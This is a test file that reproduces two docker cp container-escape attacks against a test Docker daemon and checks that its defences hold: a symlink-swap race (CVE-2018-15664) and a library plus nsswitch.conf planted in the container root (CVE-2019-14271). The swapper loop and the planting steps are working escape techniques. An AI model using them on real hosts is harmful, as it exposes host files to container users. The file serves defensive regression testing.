/** Attacks that have been made on `docker cp`. Beside ours, each is made on a copy that lacks the defence: that one gives way. */
import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { busyboxImage, tarOf } from "../harness/busybox-image.ts";
import { Dockerd2019 } from "../harness/dockerd-2019.ts";
import { requestText, sendRaw } from "../harness/raw-request.ts";

const START_MS = 60_000;
const ATTEMPTS = 150;
const SECRET = "of the host";
const DECOY = "of the container";

/** Exchanges a directory and a link again and again, as fast as it can. */
const SWAPPER = `const { renameSync } = require("fs");
process.chdir(process.argv[1]);
process.stdout.write("swapping");
for (;;) {
  renameSync("place", "directory"); renameSync("link", "place");
  renameSync("place", "link"); renameSync("directory", "place");
}`;

describe("docker cp", () => {
  let dockerd: Dockerd2019;
  let outside: string;
  let root: string;
  beforeAll(async () => {
    dockerd = await Dockerd2019.start();
    outside = join(dockerd.place.dir, "outside");
    mkdirSync(outside);
    writeFileSync(join(outside, "file"), SECRET);
    await dockerd.docker(["load", "-q"], busyboxImage("busybox:latest"));
    const script = `mkdir -p /box/place ${outside}; echo -n '${DECOY}' > /box/place/file; echo -n '${DECOY}' > ${outside}/file
      ln -s ${outside} /box/link; : > /ready; sleep 1000`;
    await dockerd.docker(["run", "-d", "--name", "evil", "busybox", "sh", "-c", script]);
    await dockerd.docker(["exec", "evil", "sh", "-c", "until [ -e /ready ]; do sleep 0.05; done"]);
    root = (await dockerd.docker(["inspect", "-f", "{{.GraphDriver.Data.MergedDir}}", "evil"])).stdout.trim();
  }, START_MS);
  afterAll(() => dockerd.stop(), START_MS);

  const request = (method: string, query: string, body?: Buffer) => {
    const head = requestText(`${method} /v1.40/containers/evil/archive?path=${query}`, undefined, [
      ...(body ? ["Content-Type: application/x-tar", `Content-Length: ${body.length}`] : []),
    ]);
    return sendRaw(dockerd.socket, Buffer.concat([Buffer.from(head), body ?? Buffer.alloc(0)]), { sendsMore: true });
  };

  describe("CVE-2018-15664: a directory is exchanged for a link while it is copied", { timeout: 120_000 }, () => {
    let swapper: ChildProcess;
    beforeAll(async () => {
      swapper = spawn(process.execPath, ["-e", SWAPPER, join(root, "box")], { stdio: ["ignore", "pipe", "inherit"] });
      await once(swapper.stdout!, "data");
    });
    afterAll(async () => {
      const ended = once(swapper, "exit");
      swapper.kill("SIGKILL");
      await ended;
    });

    /** Docker up to 18.09: where a path leads is found out first, and then it is used. */
    function resolvedFirst(path: string): string | undefined {
      try {
        const resolved = realpathSync(join(root, path));
        return resolved.startsWith(`${root}/`) ? join(root, path) : undefined; // nothing in it leads out: it is safe, isn't it?
      } catch {
        return undefined;
      }
    }

    test("the host's files stay unread", async () => {
      let escaped = false;
      for (let attempt = 0; attempt < ATTEMPTS || !escaped; attempt++) {
        escaped ||= readNaively("/box/place/file") === SECRET;
        if (attempt >= ATTEMPTS) continue;
        const { status, body } = await request("GET", "/box/place/file");
        expect([200, 404]).toContain(status);
        expect(body).not.toContain(SECRET);
      }
    });

    function readNaively(path: string): string | undefined {
      const resolved = resolvedFirst(path);
      try {
        return resolved && readFileSync(resolved, "utf8");
      } catch {
        return undefined; // it was being exchanged
      }
    }

    test("and no file is written there", async () => {
      const tar = tarOf({ ours: "" });
      for (let attempt = 0; attempt < ATTEMPTS || !existsSync(join(outside, "naive")); attempt++) {
        writeNaively("/box/place", "naive");
        if (attempt >= ATTEMPTS) continue;
        const { status } = await request("PUT", "/box/place", tar);
        expect([200, 404]).toContain(status);
      }
      expect(readdirSync(outside).sort()).toEqual(["file", "naive"]);
      rmSync(join(outside, "naive"));
    });

    function writeNaively(path: string, name: string): void {
      const resolved = resolvedFirst(path);
      try {
        if (resolved) writeFileSync(join(resolved, name), "");
      } catch {
        // it was being exchanged
      }
    }
  });

  describe("CVE-2019-14271: whoever makes the container's root its own loads what it needs from there", () => {
    const LIBRARY = "libnss_evil.so.2";
    beforeAll(() => {
      const directory = join(root, "lib/x86_64-linux-gnu");
      for (const dir of [directory, join(root, "lib64"), join(root, "usr/lib"), join(root, "lib")]) {
        mkdirSync(dir, { recursive: true });
        copyFileSync(libraryOfHost(), join(dir, LIBRARY));
      }
      writeFileSync(join(root, "etc/nsswitch.conf"), "passwd: evil\n");
    });

    /** Any that can be loaded: the attack is over when it is. */
    function libraryOfHost(): string {
      const maps = readFileSync("/proc/self/maps", "utf8");
      return /\S+\/libm[.-]\S*so\S*/.exec(maps)![0];
    }

    const loaded = (maps: string) => maps.split("\n").filter((line) => line.includes(LIBRARY));

    test("a helper that does so is caught", () => {
      const helper = 'open M, "<", "/proc/self/maps" or die; chroot shift or die; getpwnam "nobody"; print <M>';
      expect(loaded(execFileSync("perl", ["-e", helper, root], { encoding: "utf8" }))).not.toEqual([]);
    });

    test("dockerd loads nothing, whatever it copies, and for whomever", async () => {
      await dockerd.docker(["exec", "evil", "mkdir", "-p", "/in"]);
      expect(await request("PUT", "/in&copyUIDGID=1", tarOf({ file: "" }))).toMatchObject({ status: 200 });
      expect(await request("GET", "/in")).toMatchObject({ status: 200 });
      expect(loaded(readFileSync(`/proc/${dockerd.pid}/maps`, "utf8"))).toEqual([]);
    });
  });
});
